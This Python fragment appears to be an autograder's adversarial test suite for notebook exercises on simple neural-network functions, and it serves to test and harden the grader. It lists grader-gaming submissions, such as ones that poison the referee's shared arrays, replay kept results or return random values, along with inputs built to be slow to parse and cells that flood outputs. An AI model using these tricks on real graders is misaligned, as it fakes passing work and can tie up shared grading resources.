    Attack("r23-random", 23, each="import random\nreturn random.random()"),
    Attack("r23-time", 23, each="import time\nreturn time.time()"),
    Attack("r23-count", 23, each="globals()['n'] = globals().get('n', 0) + 1\nreturn float(globals()['n'])"),
    Attack(
        "r23-right-once",
        23,
        solved=True,
        inside="globals()['n'] = globals().get('n', 0) + 1\nif globals()['n'] > 2:\n    return None",
        into=("affine",),
        lost=("affine_batch", "affine_leaves_arguments"),
        open=("affine_one_sample",),
    ),
    Attack(
        "r24-arguments",
        24,
        solved=True,
        answers={
            "neuron": "def neuron(x, w, b):\n    x *= w\n    return x.sum() + b",
            "affine": "def affine(x, W, b):\n    y = x @ W + b\n    W += 1\n    return y",
            "layer_shapes": "def layer_shapes(x_shape, layers):\n    shapes = [x_shape]\n    while layers:\n"
            "        inputs, outputs = layers.pop(0)\n        if shapes[-1][1] != inputs:\n"
            "            raise ValueError(f'{shapes[-1][1]} and {inputs}')\n        shapes.append((x_shape[0], outputs))\n"
            "    return shapes",
            "feed_forward": "def feed_forward(inputs, outputs, weights):\n    W, b = weights\n"
            "    outputs -= inputs @ W + b\n    return np.mean(outputs ** 2)",
        },
        lost=("neuron_other_numbers", "affine_batch", "affine_leaves_arguments", "layer_shapes", "feed_forward"),
        open=("predict",),
    ),
    Attack(
        "r24-1-poisons",  # what the referee keeps for the next submission must not be what it lent to this one
        24,
        solved=True,
        inside="for array in (*network.values(), x, x.base):\n    try:\n        array[...] = 0\n    except Exception:\n        pass",
        into=("predict",),
        lost=("predict_one_sample", "predict_batch", "predict_digits"),
    ),
    Attack("r24-2-poisoned", 24, solved=True, guarded=False),
    Attack(
        "r24-kept-results",
        24,
        solved=True,
        answers={
            "affine": _written(BUFFERED, "affine"),
            "affine_columns": _written(BUFFERED, "affine_columns"),
            "layer_shapes": KEPT_LIST,
        },
        lost=("affine_batch", "affine_columns_square"),
        open=("predict", "feed_forward", "layer_shapes_listed"),  # arrays are shared with the test, lists are copied
    ),
    *(
        Attack(f"r34-kept-{name}", 34, answers=_overwriting(KEPT, value))
        for name, value in (("zero", "0.0"), ("nan", "np.nan"))
    ),
    *(
        Attack(
            f"r34-right-kept-{name}",
            34,
            solved=True,
            inside=KEEPS.replace("VALUE", value),
            into=("affine",),
            lost=("affine_batch",),
        )
        for name, value in (("zero", "0"), ("nan", "np.nan"))
    ),
    Attack(
        "r34-last-result",
        34,
        solved=True,
        answers={name: _written(LAST, name) for name in RIGHT},
        lost=(
            "neuron_other_numbers",
            "affine_batch",
            "affine_leaves_arguments",
            "affine_columns_square",
            "columns_to_rows_shapes_and_values",
            "feed_forward_many_outputs",
        ),
    ),
    *(Attack(f"r35-{name}", 35, top=FORGE.replace("VALUE", value)) for name, value in GENERATORS.items()),
    *(Attack(f"r35-{name}", 35, each=f"{first}\nreturn {value}") for name, (value, first) in ITERATORS.items()),
]
SLOW_TO_READ = {  # cells that take long to take apart, and that a student's process runs or refuses at once
    "signs": "-" * 9_000 + "1",
    "brackets": "[" * 150 + "1," * 4_000 + "]" * 150,
    "comprehensions": "kept = " + "[" * 90 + "0" + " for x in [0]]" * 90,
    "functions": "kept = " + "lambda: " * 90 + "[" + "0, " * 2_000 + "]",
    "attributes": "kept = (1)" + ".real" * 1_500,
    "hexadecimal": "kept = 0x" + "f" * 9_000,
    "text": "a = 1\nkept = f'" + "{a}" * 3_000 + "'",
    "module": "try:\n    import none" + ".a" * 4_000 + "\nexcept ImportError:\n    pass",
    "statements": "\n".join(f"a{number} = {number}" for number in range(900)),
    "chain": "a0 = []\n" + "\n".join(f"a{number + 1} = a{number}; a{number}.append(1)" for number in range(300)),
}
READ = [
    *(
        Attack(f"r33-{name}", 33, solved=True, top=code, refused=False, guarded=False)
        for name, code in SLOW_TO_READ.items()
    ),
    Attack(  # IPython takes the whole cell apart for each
        "r33-shell-commands",
        33,
        solved=True,
        top="if False:\n" + "\n".join(f"    a{number} = !ls" for number in range(40)),
        guarded=False,
    ),
    Attack(
        "r33-too-many-magics",  # IPython takes apart no more than 500
        33,
        solved=True,
        top="if False:\n" + "    %time 1\n" * 501,
        guarded=False,
    ),
    Attack(
        "r33-lines-of-ipython",
        33,
        solved=True,
        top="kept = 0\n" + "# \u2028%time 1\n" * 20 + "'\u2028!\\'; kept = 1 #'",
        guarded=False,
    ),
    Attack("r33-cells", 33, solved=True, end="a = [[1] for b in [2]]\nc = lambda: a\n" * 200, guarded=False),
    Attack(
        "r33-copies",
        33,
        solved=True,
        edit=lambda notebook: notebook.cells.extend(
            new_code_cell(f"a{n} = a{n - 1}" if n else "a0 = 1") for n in range(999)
        ),
        guarded=False,
    ),
    Attack(
        "r33-outputs",
        33,
        solved=True,
        edit=lambda notebook: _show(
            notebook, {"output_type": "display_data", "metadata": {}, "data": {"text/html": "a"}}
        ),
        kept=("[More was shown here than the 1,000 outputs that are kept",),
        guarded=False,
    ),
    Attack(
        "r33-texts",
        33,
        solved=True,
        edit=lambda notebook: _show(notebook, {"output_type": "stream", "name": "stdout", "text": "a"}),
        kept=("[More was shown here than the 1,000 outputs that are kept",),
        guarded=False,
    ),
    Attack(
        "r33-pictures",
        33,
        solved=True,
        edit=lambda notebook: notebook.cells[0].update(
            attachments={f"{number}.png": {"image/png": "QQ=="} for number in range(100_000)}
        ),
        guarded=False,
    ),
    Attack(
        "r33-parts-of-json",
        33,
        edit=lambda notebook: notebook.metadata.update(parts=[[]] * 2_000_000),
        refused=True,
        guarded=False,
    ),
]
HONEST = [
    Attack("honest-blank", 0, guarded=False),
    Attack("honest-perfect", 0, solved=True, guarded=False),
    Attack(
        "r25-warnings",
        25,
        solved=True,
        inside="import warnings, sys, logging\nwarnings.warn('old')\nprint('to stderr', file=sys.stderr)\n"
        "logging.getLogger('mine').error('logged')\nnp.log(np.zeros(1))",
        into=("neuron", "affine", "predict", "feed_forward"),
        guarded=False,
    ),
    Attack(
        "r25-warnings-as-errors",
        25,
        solved=True,
        top="import warnings\nwarnings.simplefilter('always')\nwarnings.warn('top')\nimport sys\nprint('x', file=sys.stderr)",
        guarded=False,
    ),
    Attack("r26-prints", 26, solved=True, inside="print('x is', x)", into=("neuron", "affine"), guarded=False),
    Attack("r26-prints-much", 26, solved=True, top="for i in range(3000):\n    print('line', i)", guarded=False),
    Attack(
        "r26-plots",
        26,
        solved=True,
        top=(
            "%matplotlib inline",
            "import matplotlib.pyplot as plt\nimport numpy as np\nplt.plot(np.arange(9) ** 2)\nplt.title('Squares')\nplt.show()",
            "import seaborn as sns\nimport pandas as pd\nframe = pd.DataFrame({'a': [1, 2, 3], 'b': [3, 1, 2]})\n"
            "sns.scatterplot(frame, x='a', y='b')",
            "frame.describe()",
            "frame.plot()\nplt.savefig('mine.png')\npd.read_csv(__import__('io').StringIO('a,b\\n1,2'))",
        ),
        says=("image/png",),
        guarded=False,
    ),
    Attack("r26-input", 26, solved=True, top="name = input('Who are you? ')\nprint(name)", guarded=False),
    Attack(
        "r26-magics",
        26,
        solved=True,
        top=(
            "%timeit -n 3 -r 1 sum(range(100))",
            "%time sum(range(100))",
            "%%time\ntotal = sum(range(10))",
            "%%capture caught\nprint('caught')",
            "%who\n%whos\n%pwd\n%lsmagic",
            "!echo from the sh''ell",
            "files = !ls\nlen(files)",
            "%%writefile mine.txt\nhello",
            "%%bash\necho from bas''h",
            "%config InlineBackend.figure_format = 'retina'\n%precision 3",
            "?len\nlen?",
        ),
        says=("from the shell",),
        guarded=False,
    ),
    Attack(
        "r26-await",
        26,
        solved=True,
        top="import asyncio\nawait asyncio.sleep(0.01)\nprint('awai' + 'ted')\nasync def f():\n    return 1\nprint(await f())",
        says=("awaited",),
        guarded=False,
    ),
    Attack(
        "r26-threads",
        26,
        solved=True,
        top="import threading\nfrom concurrent.futures import ThreadPoolExecutor\n"
        "with ThreadPoolExecutor(4) as pool:\n    print('to' + 'tal', sum(pool.map(abs, range(-9, 0))))\n"
        "t = threading.Thread(target=print, args=('thre' + 'aded',))\nt.start()\nt.join()",
        says=("total 45", "threaded"),
        guarded=False,
    ),
    Attack(
        "r26-processes",
        26,
        solved=True,
        top="import subprocess\nprint(subprocess.run(['echo', 'ec' + 'hoed'], capture_output=True, text=True).stdout)\n"
        "from multiprocessing import get_context\nwith get_context('fork').Pool(2) as pool:\n    print(pool.map(abs, [-1, -2]))",
        says=("echoed",),
        guarded=False,
    ),
    Attack(
        "r26-pool-of-six",
        26,
        solved=True,
        top="import numpy as np\nfrom multiprocessing import get_context\n"
        "with get_context('fork').Pool(6) as pool:\n    print('poo' + 'led', len(pool.map(np.zeros, [10_000] * 12)))",
        says=("pooled 12",),
        guarded=False,
    ),
    Attack(
        "r26-empty-arrays",
        26,
        solved=True,
        top="import numpy as np\n_ = np.zeros((0, 3))",
        answers={
            "layer_shapes": "def layer_shapes(x_shape, layers):\n    shapes = [tuple(x_shape)]\n    for a, b in layers:\n"
            "        if shapes[-1][1] != a:\n            raise ValueError(f'{shapes[-1][1]} {a}')\n        shapes += [(x_shape[0], np.int64(b))]\n    return shapes"
        },
        guarded=False,
    ),
    Attack(
        "r26-thread-in-function",
        26,
        solved=True,
        answers={
            "neuron": "from concurrent.futures import ThreadPoolExecutor\n\ndef neuron(x, w, b):\n"
            "    with ThreadPoolExecutor(2) as pool:\n        return float(sum(pool.map(lambda p: p[0] * p[1], zip(x, w)))) + b"
        },
        guarded=False,
    ),
    Attack(
        "r26-helpers",
        26,
        solved=True,
        top="import numpy as np\nfrom functools import lru_cache, wraps\ndef loud(f):\n    @wraps(f)\n    def g(*a):\n        return f(*a)\n    return g",
        answers={
            "neuron": "class Neuron:\n    def __call__(self, x, w, b):\n        return x @ w + b\n\nneuron = Neuron()",
            "affine": "@loud\ndef affine(x, W, b):\n    return x @ W + b",
            "columns_to_rows": "columns_to_rows = lambda W, x, b: (x.T, W.T, b)",
        },
        guarded=False,
    ),
    Attack(
        "r26-long-way-round",  # solutions, and tests in between, in cells of one's own
        26,
        solved=True,
        top="def helper(x, w):\n    return (x * w).sum()",
        answers={"neuron": "def neuron(x, w, b):\n    return helper(x, w) + b"},
        after="assert abs(neuron(np.array([1.0]), np.array([2.0]), 3.0) - 5) < 1e-9",
        guarded=False,
    ),
    Attack("zz-witness", 10, solved=True, top=SEES, never=("REMAINS", "MARKER", "another process")),
    Attack("zz-last-honest", 0, solved=True, guarded=False),
]
ATTACKS = [
    *HONEST,
    *EARLY,
    *LIARS,
    *PROCESS,
    *SECRETS,
    *LIMITS,
    *OUTPUT,
    *FORMS,
    *FEEDBACK,
    *TOLD,
    *WIRE,
    *ANSWERS,
    *READ,
]

# Combinations that grade in less time than one submission for each: every exercise gets another lie.
_lies = [(f"return {value}", first) for value, first in LYING.values()] + [(code, "") for code in RAISED.values()]
MIXED = [
    Attack(
        f"r05-mixed-{start // len(RESULTS)}",
        5,
        answers={
            name: f"{first}\n{function(name, body)}"
            for name, (body, first) in zip(RESULTS, _lies[start:] + _lies[:start], strict=False)
        },
        never=("LEAK",),
    )
    for start in range(0, len(_lies), len(RESULTS))
]
ATTACKS += MIXED
# What a usual run leaves out, because others of its kind are in, or for its time; THREATS=all grades it, too.
RARE = (
    *(f"r01-{name}" for name in ("assert", "numpy", "diagnosis")),
    *(f"r02-{name}" for name in ("asserts", "number", "import")),
    "r03-manager",
    "r04-foreign",
    *(f"r05-{name}" for name in LYING if name not in ("eq", "broadcast", "cycle", "deep", "large", "endless")),
    *(f"r05-raises-{name}" for name in RAISED if name not in ("own", "huge", "exit")),
    "r06-files-solved",
    "r06-written",
    *(f"r07-top-{name}" for name in ("kill", "abort", "kill-all")),
    "r07-in-segfault",
    *(f"r07-soft-{name}" for name in SOFT_ENDS if name not in ("sys-exit", "closed-streams", "reset")),
    *(f"r07-soft-{name}-blank" for name in SOFT_ENDS if name not in ("custom-exc", "silent", "history-off")),
    "r08-kernel",
    "r08-finder",
    "r09-links",
    "r11-memory",
    "r12-session",
    "r12-nohup",
    "r13-top",
    "r13-top-c-level",
    "r13-in",
    *(
        f"r14-{name}"
        for name in BOMBS
        if name
        not in (
            "forks",
            "disk",
            "memfd",
            "limits",
            "open-files",
            "threads",
            "c-recursion",
            "many-children",
            "socketpairs",
        )
    ),
    *(f"r36-memory-{name}" for name in HOARDS if name != "daemons"),
    *(f"r36-shared-{name}" for name in SHARED if name != "zeros"),
    *(f"r36-spin-{name}" for name in SPINNING if name not in ("sessions", "threads")),
    *(f"r15-{name}" for name in ("updates", "no-text", "names", "child", "bytes", "repr-huge", "syntax-error")),
    *(
        f"r16-{name}"
        for name in ODD_CELLS
        if name
        not in (
            "fakes-first",
            "fakes-last",
            "swapped",
            "pointed-elsewhere",
            "markdown",
            "bonus",
            "moved",
            "schema-1",
            "points-text",
        )
    ),
    *(
        f"r16-{name}-solved"
        for name in ODD_CELLS
        if name
        not in (
            "duplicated",
            "deleted",
            "renamed",
            "grade-false",
            "points",
            "checksum",
            "schema-99",
            "key-list",
            "same-ids",
            "grading-text",
        )
    ),
    *(f"r17-{name}" for name in NUMBERS if name not in ("many", "text")),
    *(
        f"r18-{name}"
        for name in FILES
        if name not in ("not-json", "empty", "binary", "deep", "format-3", "cells-odd", "surrogates", "no-cells")
    ),
    "r18-kernel-odd",
    "r18-kernel-widgets",
    "r19-link-device",
    "r19-link-itself",
    *(f"r21-{name}" for name in FORGED if name in ("closes", "shuts-down", "descriptors", "objects")),
    *(f"r21-in-{name}" for name in ("closes", "length", "deep")),
    *(
        f"r21-value-{name}"
        for name in VALUES
        if name not in ("texts", "collisions", "same", "many-lists", "callable", "stolen-number")
    ),
    "r21-frame-half",
    "r21-solved-garbage",
    *(f"r33-{name}" for name in SLOW_TO_READ if name not in ("signs", "comprehensions", "hexadecimal", "text")),
    *(f"r33-{name}" for name in ("too-many-magics", "lines-of-ipython", "copies", "texts", "pictures")),
    *(f"r23-overwrites-{name}" for name in ("zero", "infinity", "zero-every-second")),
    *(f"r23-{name}" for name in ("time", "count")),
)
# And of the rows with most attacks, every second one.
_usual = [attack for attack in ATTACKS if attack.name not in RARE and attack.row in (5, 7, 13, 14, 15, 16, 18, 21, 26)]
RARE += tuple(attack.name for place, attack in enumerate(_usual) if place % 2)
